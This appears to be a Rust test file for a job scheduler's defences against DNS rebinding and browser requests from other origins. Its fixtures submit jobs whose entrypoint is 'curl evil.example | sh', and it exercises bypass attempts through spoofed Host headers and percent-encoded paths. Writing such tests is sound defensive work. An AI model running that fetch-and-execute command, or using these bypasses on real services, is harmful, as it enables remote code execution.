//! Issue 45 §3: no web page can use an open fairshare. The DNS-rebinding requests of
//! the issue (a page on `http://evil.example:PORT` whose name was rebound to
//! 127.0.0.1: same-origin for the browser) are refused before any handler and store
//! nothing; Ray's API on fairshare refuses browser requests to its mutating routes
//! as Ray's dashboard does; the console keeps working from an allowed host.

use reqwest::Method;
use serde_json::{json, Value};

use crate::both_databases;
use crate::helpers::{Db, TestApp, ADMIN};

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0 Safari/537.36";

/// An open service (no tokens), as the README's first run starts it.
async fn open_app(db: Db) -> TestApp {
    crate::helpers::spawn_app_with(db, |s| s.auth.tokens.clear())
        .await
        .expect("database available")
}

/// A request as a page on `origin_host` sends it from a victim's browser.
fn from_page(
    app: &TestApp,
    method: Method,
    path: &str,
    host: &str,
    body: Option<Value>,
) -> reqwest::RequestBuilder {
    let origin = format!("http://{host}");
    let mut r = app
        .client
        .request(method, app.url(path))
        .header("host", host)
        .header("origin", &origin)
        .header("referer", format!("{origin}/"))
        .header("sec-fetch-site", "same-origin")
        .header("sec-fetch-mode", "cors")
        .header("user-agent", BROWSER);
    if let Some(b) = body {
        r = r.json(&b);
    }
    r
}

async fn jobs_stored(app: &TestApp) -> usize {
    let page: Value = app
        .client
        .get(app.url("/v1/jobs?limit=1000"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    page["jobs"].as_array().map_or(0, Vec::len)
}

async fn the_rebinding_requests_are_refused_and_store_nothing(db: Db) {
    let app = open_app(db).await;
    let port = app
        .url("/")
        .split(':')
        .nth(2)
        .unwrap()
        .trim_end_matches('/')
        .to_string();
    let evil = format!("evil.example:{port}");
    let job = json!({"user": "victim", "entrypoint": "curl evil.example | sh"});
    let ray_job =
        json!({"entrypoint": "curl evil.example | sh", "metadata": {"fairshare.user": "victim"}});
    for (method, path, body) in [
        (Method::POST, "/v1/jobs", Some(job)),
        (Method::POST, "/api/jobs/", Some(ray_job)),
        (
            Method::PUT,
            "/v1/users/victim",
            Some(json!({"weight": 100})),
        ),
        (Method::GET, "/v1/jobs", None),
        (Method::GET, "/api/jobs/", None),
        (Method::GET, "/ui/", None),
        (Method::GET, "/v1/scheduler", None),
    ] {
        let r = from_page(&app, method.clone(), path, &evil, body)
            .send()
            .await
            .unwrap();
        let status = r.status().as_u16();
        let text = r.text().await.unwrap();
        assert_eq!(status, 421, "{method} {path}: {text}");
        let v: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(v["error"]["code"], "host_not_allowed", "{text}");
        assert!(
            v["error"]["message"]
                .as_str()
                .unwrap()
                .contains("server.allowed_hosts"),
            "{text}"
        );
    }
    // Even without any browser header: the Host decides.
    let r = app
        .client
        .post(app.url("/v1/jobs"))
        .header("host", "EVIL.example.")
        .json(&json!({"user": "victim", "entrypoint": "true"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 421);
    assert_eq!(jobs_stored(&app).await, 0, "nothing stored");
    let users: Value = app
        .client
        .get(app.url("/v1/users/victim"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_ne!(users["weight"], 100, "the weight was not changed: {users}");
}
both_databases!(the_rebinding_requests_are_refused_and_store_nothing);

/// Ray's API refuses a browser's mutating request even from an allowed host, with
/// Ray's own answer; its reads, and non-browser clients, go through.
async fn rays_api_refuses_browser_requests_to_mutating_routes_as_ray_does(db: Db) {
    let app = open_app(db).await;
    let port = app
        .url("/")
        .split(':')
        .nth(2)
        .unwrap()
        .trim_end_matches('/')
        .to_string();
    let host = format!("127.0.0.1:{port}");
    let ray_job = json!({"entrypoint": "echo hi", "metadata": {"fairshare.user": "u"}});
    let r = from_page(
        &app,
        Method::POST,
        "/api/jobs/",
        &host,
        Some(ray_job.clone()),
    )
    .send()
    .await
    .unwrap();
    assert_eq!(r.status(), 405);
    assert_eq!(
        r.text().await.unwrap(),
        "'POST' method not allowed for browser traffic."
    );
    // Each of Ray's browser signs alone is enough.
    for (name, value) in [
        ("user-agent", "Mozilla/5.0"),
        ("origin", "http://127.0.0.1"),
        ("referer", "http://127.0.0.1/"),
        ("sec-fetch-dest", "empty"),
        ("access-control-request-method", "POST"),
    ] {
        let r = app
            .client
            .post(app.url("/api/jobs/"))
            .header(name, value)
            .json(&ray_job)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 405, "{name}");
    }
    // As the router decodes the path: `/%61pi/` is `/api/` (a fresh tester's finding).
    for path in ["/%61pi/jobs/", "/a%70i/jobs/"] {
        let r = from_page(&app, Method::POST, path, &host, Some(ray_job.clone()))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 405, "{path}");
    }
    assert_eq!(jobs_stored(&app).await, 0, "nothing stored");
    let r = from_page(&app, Method::GET, "/api/jobs/", &host, None)
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status(),
        200,
        "reads stay open to a page of an allowed host"
    );
    // Ray's own client sends no browser header.
    let r = app
        .client
        .post(app.url("/api/jobs/"))
        .json(&ray_job)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{:?}", r.text().await);
}
both_databases!(rays_api_refuses_browser_requests_to_mutating_routes_as_ray_does);

/// The console from an allowed host: its page, and its same-origin writes to `/v1`
/// (here a weight) with the operator's token, from `localhost`, an IP and a name the
/// operator listed.
async fn the_console_works_from_an_allowed_host(db: Db) {
    let app = crate::helpers::spawn_app_with(db, |s| {
        s.server.allowed_hosts = vec!["fairshare.example.org".into()]
    })
    .await
    .expect("database available");
    let port = app
        .url("/")
        .split(':')
        .nth(2)
        .unwrap()
        .trim_end_matches('/')
        .to_string();
    for host in [
        format!("localhost:{port}"),
        format!("127.0.0.1:{port}"),
        format!("fairshare.example.org:{port}"),
    ] {
        let r = from_page(&app, Method::GET, "/ui/", &host, None)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{host}");
        let r = from_page(
            &app,
            Method::PUT,
            "/v1/users/alice",
            &host,
            Some(json!({"weight": 2})),
        )
        .bearer_auth(ADMIN)
        .send()
        .await
        .unwrap();
        assert_eq!(r.status(), 200, "{host}: {:?}", r.text().await);
    }
    let r = from_page(&app, Method::GET, "/ui/", "other.example.org", None)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 421);
}
both_databases!(the_console_works_from_an_allowed_host);

/// A fresh tester's finding: with `auth.trusted_networks`, a request without a token
/// from a trusted address is let in, so a browser page of another origin on such a
/// machine could cancel jobs with a body-less POST (no preflight). It is refused as
/// on an open service.
async fn a_trusted_network_lets_no_page_of_another_origin_change_anything(db: Db) {
    let app = crate::helpers::spawn_app_with(db, |s| {
        s.auth.trusted_networks = vec!["127.0.0.0/8".into()];
    })
    .await
    .expect("database available");
    let job = app.submit("victim", json!({})).await;
    let id = job["id"].as_str().unwrap().to_string();
    let r = app
        .client
        .post(app.url(&format!("/v1/jobs/{id}/cancel")))
        .header("origin", "http://evil.example")
        .header("sec-fetch-site", "cross-site")
        .header("user-agent", BROWSER)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let shown: Value = app.get_json(&format!("/v1/jobs/{id}"), ADMIN).await;
    assert_eq!(shown["status"], "QUEUED");
    // A client of the trusted network that is no browser still may.
    let r = app
        .client
        .post(app.url(&format!("/v1/jobs/{id}/cancel")))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success(), "{:?}", r.text().await);
}
both_databases!(a_trusted_network_lets_no_page_of_another_origin_change_anything);
